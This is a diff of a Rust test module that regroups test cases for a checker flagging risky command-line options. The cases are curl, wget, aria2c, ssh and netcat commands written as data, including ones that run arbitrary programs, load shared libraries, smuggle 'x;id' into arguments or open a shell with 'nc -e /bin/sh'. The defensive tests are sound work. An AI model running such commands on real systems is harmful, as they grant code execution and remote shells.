@@ -569,6 +569,27 @@ mod tests {
     }
 
     #[test]
+    fn downloads_that_start_programs_or_hide_names_are_in_doubt() {
+        check(
+            "curl --unix-socket /var/run/docker.sock http://x => the option --unix-socket
+            curl '{file}:///x' -o 'Make#1' => the word Make#1
+            curl -O 'http://x/{Makefile}' => the word http://x/{Makefile}
+            curl -O 'http://x/[a-b]' => the word http://x/[a-b]
+            curl -K x https://y => the option -K
+            curl --config x => the option --config
+            curl --engine ./x.so https://y => the option --engine
+            curl --conf x => the option --conf
+            curl -w '%output{x}' https://y => the word %output{x}
+            wget --use-askpass=./e https://x => the option --use-askpass
+            wget -e use_askpass=./e https://x => the option -e
+            wget --execute=x https://y => the option --execute
+            wget --config=x https://y => the option --config
+            wget --use-ask=./e https://x => the option --use-ask
+            aria2c --on-download-complete=./e x => the option --on-download-complete",
+        );
+    }
+
+    #[test]
     fn options_that_start_programs_are_in_doubt() {
         check(
             "ssh -o ProxyCommand=id host => the setting ProxyCommand
@@ -583,10 +604,6 @@ mod tests {
             ssh host -o ProxyCommand=id => the option -o
             ssh -o 'ProxyJump=$(id)@h' -N host => the setting ProxyJump
             ssh -o 'proxyjump `id`@h' -N host => the setting proxyjump
-            curl --unix-socket /var/run/docker.sock http://x => the option --unix-socket
-            curl '{file}:///x' -o 'Make#1' => the word Make#1
-            curl -O 'http://x/{Makefile}' => the word http://x/{Makefile}
-            curl -O 'http://x/[a-b]' => the word http://x/[a-b]
             ssh -J 'x;id' host => the word x;id
             ssh-keygen -D ./x.so => the option -D
             ssh-keygen -w x => the option -w
@@ -594,17 +611,6 @@ mod tests {
             mosh --ssh=id host => the option --ssh
             mosh --server=id host => the option --server
             ssh-copy-id -o ProxyCommand=id host => the option -o
-            curl -K x https://y => the option -K
-            curl --config x => the option --config
-            curl --engine ./x.so https://y => the option --engine
-            curl --conf x => the option --conf
-            curl -w '%output{x}' https://y => the word %output{x}
-            wget --use-askpass=./e https://x => the option --use-askpass
-            wget -e use_askpass=./e https://x => the option -e
-            wget --execute=x https://y => the option --execute
-            wget --config=x https://y => the option --config
-            wget --use-ask=./e https://x => the option --use-ask
-            aria2c --on-download-complete=./e x => the option --on-download-complete
             nc -e /bin/sh h 1 => the option -e
             nc -c id h 1 => the option -c
             ncat --exec id => the option --exec
